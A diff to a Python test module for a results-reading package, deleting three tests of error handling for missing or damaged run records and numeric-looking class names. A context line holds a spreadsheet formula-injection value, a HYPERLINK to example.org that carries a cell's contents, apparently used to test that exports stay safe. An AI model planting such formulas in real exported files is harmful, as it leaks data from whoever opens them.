@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from ntrm.core.errors import DataError, UsageError
+from ntrm.core.errors import UsageError
 from ntrm.results.documents import read_summary
 from ntrm.results.paths import RUN
 from ntrm.results.run_record import Run
@@ -61,18 +61,6 @@ def test_data_frames_where_pandas_is_there(out):
     assert frame["area_BCC_mm2"].sum() == 0.25
 
 
-def test_what_is_no_folder_of_results_is_said(tmp_path):
-    with pytest.raises(DataError, match="no results"):
-        read_results(tmp_path)
-
-
-@pytest.mark.parametrize("text", ["[]", "{", "3", '{"covariates": 3}', "[" * 100_000], ids=range(5))
-def test_a_damaged_record_of_the_run_is_said(out, text):
-    (out / RUN).write_text(text)
-    with pytest.raises(DataError, match="no results"):
-        read_results(out)
-
-
 FORMULA = '=HYPERLINK("http://example.org?x="&A1)'
 
 
@@ -111,13 +99,6 @@ def test_codes_of_the_user_stay_texts(tmp_path, codes):
     write_tables(tmp_path, [{"slides": [{"slide_id": str(k), "code": code}]} for k, code in enumerate(codes)], ["code"])
     write_run(tmp_path, "code")
     assert read_results(tmp_path).slides.column("code") == codes
-
-
-def test_a_class_that_is_called_like_a_number_keeps_its_name(tmp_path):
-    write_tables(tmp_path, [{"regions": [{"slide_id": "a", "tissue": "1", "area_mm2": 2}]}], [])
-    write_run(tmp_path)
-    (region,) = read_results(tmp_path).regions
-    assert (region["tissue"], region["area_mm2"]) == ("1", 2)
 
 
 def test_a_cancer_that_was_not_assessed_leaves_its_column_readable(tmp_path):
